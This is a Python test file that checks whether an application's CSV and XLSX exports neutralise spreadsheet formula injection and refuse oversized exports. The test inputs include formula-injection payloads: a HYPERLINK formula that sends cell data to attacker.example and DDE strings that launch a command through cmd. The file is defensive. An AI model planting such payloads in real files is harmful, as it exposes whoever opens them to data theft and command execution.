"""Cells that a spreadsheet would run as formulas are neutralised in every export (issue 15, point 5d)."""

import csv
import io

import pytest

from cnum_shared.core.exports import csv_bytes, spreadsheet_safe


@pytest.mark.parametrize(
    "typed",
    [
        '=HYPERLINK("http://attacker.example/?"&A1,"Voir")',
        "+33 6 12 34 56 78",
        "-2+3+cmd|' /C calc'!A0",
        "@SUM(1+9)*cmd|' /C calc'!A0",
        "\t=1+1",
        "\r=1+1",
        "  =1+1",
        "\uff1d1+1",
    ],
    ids=["equals", "plus", "minus", "at", "tab", "carriage-return", "leading-spaces", "full-width-equals"],
)
def test_a_cell_that_would_run_as_a_formula_is_written_as_text(typed):
    assert spreadsheet_safe(typed) == "'" + typed


@pytest.mark.parametrize("kept", ["atelier", "CRA-2026-0001", "-12", "+3.5", 42, None])
def test_plain_text_and_numbers_are_kept(kept):
    assert spreadsheet_safe(kept) == kept


def test_a_csv_export_neutralises_every_text_cell():
    content = csv_bytes(["external_id", "kind"], [["=cmd|' /C calc'!A0", "atelier"], ["ok", "@x"]])

    rows = list(csv.reader(io.StringIO(content.decode("utf-8-sig"))))
    assert rows == [["external_id", "kind"], ["'=cmd|' /C calc'!A0", "atelier"], ["ok", "'@x"]]


def test_an_export_past_its_maximum_is_refused_with_a_422_not_cut_short():
    from cnum_shared.core.errors import Invalid
    from cnum_shared.core.exports import MAX_EXPORT_ROWS, ensure_exportable, every_row

    ensure_exportable(MAX_EXPORT_ROWS)
    with pytest.raises(Invalid) as refused:
        every_row(lambda offset, limit: ([object()] * 2, MAX_EXPORT_ROWS + 1))
    assert refused.value.status == 422
    assert "50\u202f000 lignes" in refused.value.message


def test_the_csv_of_a_list_is_french_excels_and_its_xlsx_text_never_a_formula():
    from datetime import date
    from decimal import Decimal

    import openpyxl

    from cnum_shared.core.exports import Kind, column, csv_export
    from cnum_shared.framework.exports import xlsx_export

    columns = [
        column("Libellé", "label"),
        column("Montant", "amount", Kind.AMOUNT),
        column("Le", "on", Kind.DATE),
    ]
    rows = [{"label": "@SUM(1+9)", "amount": Decimal("2083.333"), "on": date(2026, 3, 15)}]

    content = csv_export(columns, rows).decode("utf-8")
    # 2 083,333 rounds half up to the cent: 2 083,33.
    assert content == "\ufeffLibellé;Montant;Le\r\n'@SUM(1+9);2083,33;15/03/2026\r\n"
    sheet = openpyxl.load_workbook(io.BytesIO(xlsx_export(columns, rows, "essai"))).active
    label, amount, on = sheet[2]
    assert (label.value, label.data_type, label.quotePrefix) == ("@SUM(1+9)", "s", True)
    assert (amount.value, amount.data_type) == (2083.33, "n")
    assert on.value.date() == date(2026, 3, 15) and on.number_format == "dd/mm/yyyy"
